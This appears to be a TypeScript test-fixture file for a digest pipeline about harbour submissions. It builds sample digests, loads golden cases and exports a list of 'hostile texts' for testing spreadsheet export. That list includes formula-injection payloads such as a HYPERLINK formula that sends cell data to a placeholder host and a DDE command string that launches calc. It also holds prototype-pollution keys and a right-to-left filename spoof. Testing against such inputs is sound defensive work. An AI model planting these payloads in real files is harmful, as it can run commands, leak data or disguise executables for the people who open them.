import {readFileSync} from 'node:fs'
import path from 'node:path'
import {Digest} from '../../src/domain/digest/digest.js'
import {WrittenPassage} from '../../src/domain/tag.js'
import {sinceDigest} from '../../src/stages/compare/since/since-digest.js'
import {type Sample, type SampleParty, sampleDigest} from './sample-digest.js'
import {sixParties, threeCodes} from './six-parties.js'
import {withUnsure} from './with-unsure.js'

type Full = Pick<Sample, 'digest' | 'passages'>

/** The six parties with something in every part of a digest: changes, groups, shared wording, voices, regions. */
export function fullDigest(parties: readonly SampleParty[] = sixParties): Full {
  const {digest, passages} = withUnsure(sampleDigest('Harbours', parties, threeCodes))
  const earlier = sampleDigest('Harbours, before', parties.map(earlierOf), threeCodes).digest
  const renamed = earlier.submissions.map(each => ({...each, id: `${each.id}-before`}))
  const held = sinceDigest(
    digest,
    {...earlier, submissions: renamed, parties: renamedIn(earlier)},
    'a'.repeat(64)
  )
  const [first, second] = passages
  if (first === undefined || second === undefined) throw new Error('The sample has no passages')
  const placed = [first, second].map(
    ({submission, id, start, end, text, page, number, ordinal, language}) => ({
      submission,
      passage: id,
      start,
      end,
      text,
      page,
      number,
      ordinal,
      speaker: null,
      language,
      recognised: null
    })
  )
  const quote = digest.cells.flatMap(({quotes}) => quotes)[0]
  return {
    passages,
    digest: Digest.parse({
      ...held,
      parties: held.parties.map((party, index) => ({...party, region: index < 2 ? 'north' : null})),
      regions: [
        {id: 'north', labels: {en: 'Northern harbours'}, members: 5},
        {id: 'south', labels: {en: 'Southern harbours'}, members: 3}
      ],
      groups: [
        {
          id: 'XAA',
          asOf: '2026-01-01',
          source: 'An invented list',
          wording: 'verified',
          members: ['XAB', 'XAZ']
        }
      ],
      cells: held.cells.map(cell =>
        cell.party === 'XAB' && cell.code === 'harbour/a'
          ? {...cell, through: [{group: 'XAA', cell: 'position', stance: 'opposes', differs: true}]}
          : cell
      ),
      answersThrough: [
        {party: 'XAB', group: 'XAA', question: 'binding-instrument', pole: 'needed', differs: true}
      ],
      sharedWording: [
        {
          overlap: 0.87,
          quotes: placed.map((words, index) => ({party: index === 0 ? 'XAA' : 'XAB', ...words}))
        }
      ],
      voices: [
        {
          submission: first.submission,
          label: 'THE CHAIR',
          role: 'chair',
          party: null,
          onBehalfOf: null,
          sureness: 'sure',
          from: 'the name over the turn',
          turns: 2,
          quotes: quote === undefined ? [] : [{code: 'harbour/a', ...quote}]
        }
      ]
    })
  }
}

// Before, nobody spoke to the pier, and what was opposed was supported.
const earlierOf = (party: SampleParty): SampleParty => ({
  ...party,
  paragraphs: party.paragraphs.map(paragraph => ({
    ...paragraph,
    tags: Object.fromEntries(
      Object.keys(paragraph.tags ?? {})
        .filter(code => code !== 'harbour/b')
        .map(code => [code, ['supports', 'none'] as const])
    ),
    answers: {}
  }))
})

const renamedIn = ({parties}: Digest) =>
  parties.map(each => ({...each, submissions: each.submissions.map(id => `${id}-before`)}))

/** What a run of the whole pipeline wrote: a golden case by name. */
export function goldenDigest(name: string): Full {
  const read = (file: string) => readFileSync(path.join('fixtures/golden', name, 'out', file), 'utf8')
  return {
    digest: Digest.parse(JSON.parse(read('digest.json'))),
    passages: read('passages.jsonl')
      .split('\n')
      .filter(line => line !== '')
      .map(line => ({...WrittenPassage.parse(JSON.parse(line)), notes: []}))
  }
}

/** Every golden case. */
export const goldenNames = ['one-voice', 'shared-wording', 'three-voices', 'transcript'] as const

/** Texts that have harmed readers of spreadsheets before. */
export const hostileTexts = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  "=cmd|' /C calc'!A0",
  'a "quoted" word, a comma; a semicolon',
  'one line\nand another\r\nand a third\rand a last',
  '<c r="A1"><f>1+1</f></c> & ]]> <!-- -->',
  '_x0041_ is no letter',
  'constructor',
  '__proto__',
  'a bell \u0007, a null \u0000 and an escape \u001b[31m',
  'gpj.\u202efdp.exe',
  '  spaces at both ends  ',
  'עברית، العربية, 中文, emoji 👩🏽‍🚀, e\u0301',
  '#REF!',
  'TRUE',
  '1e5',
  '2026-01-01',
  'null'
] as const
